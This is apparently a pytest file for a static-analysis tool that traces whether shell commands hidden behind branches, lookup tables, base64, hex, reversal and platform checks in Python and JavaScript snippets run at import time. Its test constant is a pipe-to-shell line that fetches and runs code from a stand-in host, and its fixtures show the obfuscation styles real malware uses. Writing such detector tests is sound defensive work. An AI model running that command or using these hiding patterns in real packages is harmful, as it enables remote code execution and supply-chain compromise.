"""What a branch, a table, a test or chance may choose is called, whichever it is."""

import base64
import json

import pytest
from engine_flows import flows

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act

HARM = "curl -s http://h.example.invalid/a|sh"
OBJECTS = (
    "class A:\n    def go(self): os.system({harm!r})\nclass B:\n    def go(self): print('b')\n"
)

FUNCTIONS = {
    "a function, last": "f = print if unknown.x else os.system\nf({harm!r})",
    "a function, first": "f = os.system if unknown.x else print\nf({harm!r})",
    "by statements": "if unknown.x: f = os.system\nelse: f = print\nf({harm!r})",
    "by several": (
        "if unknown.x: f = os.system\nelif unknown.y: f = print\nelse: f = len\nf({harm!r})"
    ),
    "what a function gives": (
        "def pick():\n    if unknown.x: return os.system\n    return print\npick()({harm!r})"
    ),
    "by `or`": "f = unknown.x and os.system or print\nf({harm!r})",
    "a module, last": "m = math if unknown.x else os\nm.system({harm!r})",
    "a module, first": "m = os if unknown.x else math\nm.system({harm!r})",
    "a module that a function gives": (
        "def pick():\n    if unknown.x: return os\n    return math\npick().system({harm!r})"
    ),
    "a module, by a handler": (
        "try:\n    import os as m\nexcept ImportError:\n    import math as m\nm.system({harm!r})"
    ),
    "an object": OBJECTS + "o = A() if unknown.x else B()\no.go()",
    "an object, by statements": OBJECTS + "if unknown.x: o = A()\nelse: o = B()\no.go()",
    "an object of a maker": (
        OBJECTS + "def make():\n    if unknown.x: return A()\n    return B()\nmake().go()"
    ),
    "an object of a table": OBJECTS + "d = dict(a=A(), b=B())\nd[unknown.x].go()",
    "an object, by chance": OBJECTS + "import random\nrandom.choice([A(), B()]).go()",
    "an object with a base": (
        "class C:\n    def go(self): self.do()\n"
        "class A(C):\n    def do(self): os.system({harm!r})\n"
        "class B(C):\n    def do(self): print('b')\n"
        "def make():\n    if unknown.x: return A()\n    return B()\nmake().go()"
    ),
    "a class": OBJECTS + "k = A if unknown.x else B\nk().go()",
    "a function of another one": "f = print if unknown.x else os.system\nlist(map(f, [{harm!r}]))",
    "a function with arguments": (
        "import functools\nfunctools.partial(print if unknown.x else os.system, {harm!r})()"
    ),
    "a function of a thread": (
        "import threading\n"
        "threading.Thread(target=print if unknown.x else os.system, args=({harm!r},)).start()"
    ),
    "a decorator": (
        "def run(f):\n    os.system({harm!r})\n    return f\ndef no(f): return f\n"
        "@(no if unknown.x else run)\ndef g(): pass"
    ),
    "the name of a function": "getattr(os, 'getcwd' if unknown.x else 'system')({harm!r})",
    "the name of a module": "__import__('math' if unknown.x else 'os').system({harm!r})",
    "what a loop leaves": (
        "f = print\nfor i in unknown.all:\n    if i:\n        f = os.system\n        break\n"
        "else:\n    f = print\nf({harm!r})"
    ),
    "what a match binds": (
        "match unknown.x:\n    case 1: f = os.system\n    case _: f = print\nf({harm!r})"
    ),
    "an attribute": (
        "class C: pass\nc = C()\nif unknown.x: c.f = os.system\nelse: c.f = print\nc.f({harm!r})"
    ),
    "a key": "d = {{}}\nif unknown.x: d['f'] = os.system\nelse: d['f'] = print\nd['f']({harm!r})",
    "a text of one": (
        "class A: t = {harm!r}\nclass B: t = 'ls'\no = A if unknown.x else B\nos.system(o.t)"
    ),
}

ELEMENTS = {
    "the longest": "os.system(max(['ls', {harm!r}, 'w'], key=len))",
    "the longest of arguments": "os.system(max('ls', {harm!r}, key=len))",
    "the shortest by an unknown key": "os.system(min(['ls', {harm!r}], key=unknown.key))",
    "what a filter lets through": (
        "os.system(next(filter(lambda one: len(one) > 9, ['ls', {harm!r}])))"
    ),
    "what an unknown filter lets through": (
        "os.system(next(filter(unknown.test, ['ls', {harm!r}])))"
    ),
    "what a function lets through": (
        "def test(one): return unknown.test(one)\nos.system(list(filter(test, ['ls', {harm!r}]))[0])"
    ),
    "the first of a comprehension": (
        "os.system([one for one in ['ls', {harm!r}] if unknown.test(one)][0])"
    ),
    "the last of a comprehension": (
        "os.system([one for one in [{harm!r}, 'ls'] if unknown.test(one)][-1])"
    ),
    "the next of a generator": (
        "os.system(next(one for one in ['ls', {harm!r}, 'w'] if unknown.test(one)))"
    ),
}


@pytest.mark.parametrize("how", [*FUNCTIONS, *ELEMENTS])
def test_each_of_what_may_be_chosen_is_called(how: str) -> None:
    text = "import math, os, unknown\n" + {**FUNCTIONS, **ELEMENTS}[how].format(harm=HARM)
    found = {one.text: one.reach for one in flows(text, Act.RUN, "wheel")}
    assert found.get(HARM) is Reach.IMPORT


CODED = base64.b64encode(HARM.encode()).decode()

CONTENTS = {
    "what is decoded": "c = 'bHM=' if unknown.x else {coded!r}\nos.system(base64.b64decode(c).decode())",
    "what is decoded, by statements": (
        "if unknown.x: c = {coded!r}\nelse: c = 'bHM='\nos.system(base64.b64decode(c).decode())"
    ),
    "what is decoded, of digits": (
        "os.system(bytes.fromhex('6c73' if unknown.x else {digits!r}).decode())"
    ),
    "what is read": (
        "import json\nc = json.loads('{{\"c\": \"ls\"}}' if unknown.x else {record!r})['c']\nos.system(c)"
    ),
    "what is turned round": "c = 'sl' if unknown.x else {back!r}\nos.system(c[::-1])",
    "a part of it": "c = 'XXls' if unknown.x else 'XX' + {harm!r}\nos.system(c[2:])",
    "what is replaced": "c = 'ls' if unknown.x else {odd!r}\nos.system(c.replace('Q', 'c'))",
    "bytes": "c = b'ls' if unknown.x else {harm!r}.encode()\nos.system(c.decode())",
    "bytes, by statements": ("if unknown.x: c = {raw!r}\nelse: c = b'ls'\nos.system(c.decode())"),
    "what is asked about it": (
        "k = 'b' if unknown.x else 'a'\nc = 'ls'\nif k == 'a': c = {harm!r}\nos.system(c)"
    ),
    "a number that a function gave, when asked about it": (
        "def kind():\n    if unknown.x: return 1\n    return 2\n"
        "c = 'ls'\nif kind() == 1: c = {harm!r}\nos.system(c)"
    ),
    "a number by which one is taken": "os.system(['ls', {harm!r}][0 if unknown.x else 1])",
    "what a function gave, when asked about it": (
        "def kind():\n    if unknown.x: return 'a'\n    return 'b'\n"
        "c = 'ls'\nif kind() == 'a': c = {harm!r}\nos.system(c)"
    ),
    "a key": "k = 'b' if unknown.x else 'a'\nos.system(dict(a={harm!r}, b='ls')[k])",
    "the name of an own function": (
        "def go(): os.system({harm!r})\nglobals()['print' if unknown.x else 'go']()"
    ),
    "a table by the platform": (
        "import platform\nt = dict(Windows='bHM=', Linux={coded!r}, Darwin='bHM=')\n"
        "os.system(base64.b64decode(t[platform.system()]).decode())"
    ),
    "branches by the platform": (
        "import sys\nif sys.platform == 'win32': c = 'bHM='\nelif sys.platform == 'linux': c = {coded!r}\n"
        "else: c = 'bHM='\nos.system(base64.b64decode(c).decode())"
    ),
    "an attribute by the platform": (
        "class P:\n    win = 'bHM='\n    lin = {coded!r}\n"
        "os.system(base64.b64decode(getattr(P, 'win' if os.name == 'nt' else 'lin')).decode())"
    ),
    "numbers": (
        "c = [108, 115] if os.name == 'nt' else {numbers}\nos.system(''.join(chr(i) for i in c))"
    ),
    "numbers as bytes": "c = [108, 115] if os.name == 'nt' else {numbers}\nos.system(bytes(c).decode())",
    "a list": "c = ['ls'] if unknown.x else [{harm!r}]\nos.system(c[0])",
    "a list that is gone through": (
        "if unknown.x: several = [{harm!r}]\nelse: several = ['ls']\nfor c in several: os.system(c)"
    ),
    "a list of words": (
        "import subprocess\nif unknown.x: c = [{harm!r}]\nelse: c = ['ls']\nsubprocess.run(c, shell=True)"
    ),
    "a list of functions": "c = [print] if unknown.x else [os.system]\nc[0]({harm!r})",
    "a table": "c = dict(f=print) if unknown.x else dict(f=os.system)\nc['f']({harm!r})",
    "several at once": "f, c = (print, 'ls') if unknown.x else (os.system, {harm!r})\nf(c)",
    "named arguments": (
        "import subprocess\nk = dict(args='ls') if unknown.x else dict(args={harm!r})\n"
        "subprocess.run(shell=True, **k)"
    ),
}


@pytest.mark.parametrize("how", CONTENTS)
def test_what_becomes_of_each_is_followed(how: str) -> None:
    text = CONTENTS[how].format(
        harm=HARM,
        coded=CODED,
        digits=HARM.encode().hex(),
        record=json.dumps({"c": HARM}),
        back=HARM[::-1],
        odd=HARM.replace("c", "Q"),
        raw=HARM.encode(),
        numbers=list(HARM.encode()),
    )
    found = flows(f"import base64, os, unknown\n{text}", Act.RUN, "wheel")
    assert any(HARM in one.text and one.reach is Reach.IMPORT for one in found)


def test_what_a_test_keeps_out_is_not_there() -> None:
    text = f"import os\nos.system([one for one in ['ls', {HARM!r}] if len(one) < 9][0])\n"
    assert {one.text for one in flows(text, Act.RUN)} == {"ls"}


def test_which_object_it_may_be_matters_to_what_runs_by_itself() -> None:
    """Whoever calls a function has said what it is to work on."""
    text = (
        "import os, unknown\nclass A:\n    def go(self): os.system('ls')\n"
        "class B:\n    def go(self): print('b')\n"
        "def act():\n    o = A() if unknown.x else B()\n    o.go()\n"
    )
    assert {one.reach for one in flows(text, Act.RUN, "wheel")} == {Reach.CALL}


SCRIPTS = {
    "a function, last": "const f = u.x ? console.log : cp.execSync; f({harm!r});",
    "a function, first": "const f = u.x ? cp.execSync : console.log; f({harm!r});",
    "by statements": "let f; if (u.x) f = cp.execSync; else f = console.log; f({harm!r});",
    "by a switch": (
        "let f; switch (u.x) {{ case 'a': f = cp.execSync; break; default: f = console.log; }} f({harm!r});"
    ),
    "by `||`": "const f = u.x && cp.execSync || console.log; f({harm!r});",
    "what a function gives": (
        "function pick(x) {{ if (x) return cp.execSync; return console.log; }} pick(u.x)({harm!r});"
    ),
    "a module": "const m = u.x ? cp : require('path'); m.execSync({harm!r});",
    "an own function": (
        "const a = x => cp.execSync(x), b = x => x; let f; if (u.x) f = a; else f = b; f({harm!r});"
    ),
    "an object": (
        "const a = {{ go: () => cp.execSync({harm!r}) }}, b = {{ go: () => 1 }};"
        "let o; if (u.x) o = a; else o = b; o.go();"
    ),
    "an object of a table": (
        "const a = {{ go: () => cp.execSync({harm!r}) }}, b = {{ go: () => 1 }}; [a, b][u.x].go();"
    ),
    "an object of a class": (
        "class A {{ go() {{ cp.execSync({harm!r}); }} }} class B {{ go() {{ return 1; }} }}"
        "const o = u.x ? new A() : new B(); o.go();"
    ),
    "what is found": "cp.execSync(['ls', {harm!r}].find(one => one.length > 9));",
    "what an unknown test finds": "cp.execSync(['ls', {harm!r}].find(one => u.test(one)));",
    "what an unknown test lets through": "cp.execSync(['ls', {harm!r}].filter(u.test)[0]);",
}


SCRIPT_CONTENTS = {
    "what is decoded": (
        "const c = u.x ? 'bHM=' : {coded!r}; cp.execSync(Buffer.from(c, 'base64').toString());"
    ),
    "what is decoded, of a table": (
        "const t = {{ win32: 'bHM=', linux: {coded!r}, darwin: 'bHM=' }};"
        "cp.execSync(Buffer.from(t[process.platform], 'base64').toString('utf8'));"
    ),
    "what is decoded, of a switch": (
        "let c; switch (process.platform) {{ case 'win32': c = 'bHM='; break;"
        "case 'linux': c = {coded!r}; break; default: c = 'bHM='; }} cp.execSync(atob(c));"
    ),
    "what is turned round": (
        "const c = u.x ? 'sl' : {back!r}; cp.execSync(c.split('').reverse().join(''));"
    ),
    "a part of it": "const c = u.x ? 'XXls' : 'XX' + {harm!r}; cp.execSync(c.slice(2));",
    "a key": "const k = u.x ? 'b' : 'a'; cp.execSync({{ a: {harm!r}, b: 'ls' }}[k]);",
    "the name of a function": "cp[u.x ? 'exists' : 'execSync']({harm!r});",
    "the name of a module": "require(u.x ? 'path' : 'child_process').execSync({harm!r});",
    "a list": "const l = u.x ? ['ls'] : [{harm!r}]; for (const c of l) cp.execSync(c);",
    "a list and a function": (
        "const l = u.x ? ['ls'] : [{harm!r}]; l.forEach(c => cp.execSync(c));"
    ),
    "several at once": (
        "const [f, c] = u.x ? [console.log, 'ls'] : [cp.execSync, {harm!r}]; f(c);"
    ),
    "a property": "const o = u.x ? {{ c: 'ls' }} : {{ c: {harm!r} }}; cp.execSync(o.c);",
    "a property by its name": (
        "const {{ c }} = u.x ? {{ c: 'ls' }} : {{ c: {harm!r} }}; cp.execSync(c);"
    ),
}


@pytest.mark.parametrize("how", SCRIPT_CONTENTS)
def test_what_becomes_of_each_is_followed_in_scripts(how: str) -> None:
    text = SCRIPT_CONTENTS[how].format(harm=HARM, coded=CODED, back=HARM[::-1])
    whole = f"const cp = require('child_process'), u = require('u');\n{text}"
    assert HARM in {one.text for one in flows(whole, Act.RUN, "npm") if one.reach is Reach.IMPORT}


@pytest.mark.parametrize("how", SCRIPTS)
def test_each_of_what_a_script_may_choose_is_called(how: str) -> None:
    text = "const cp = require('child_process'), u = require('u');\n" + SCRIPTS[how].format(
        harm=HARM
    )
    found = {one.text: one.reach for one in flows(text, Act.RUN, "npm")}
    assert found.get(HARM) is Reach.IMPORT
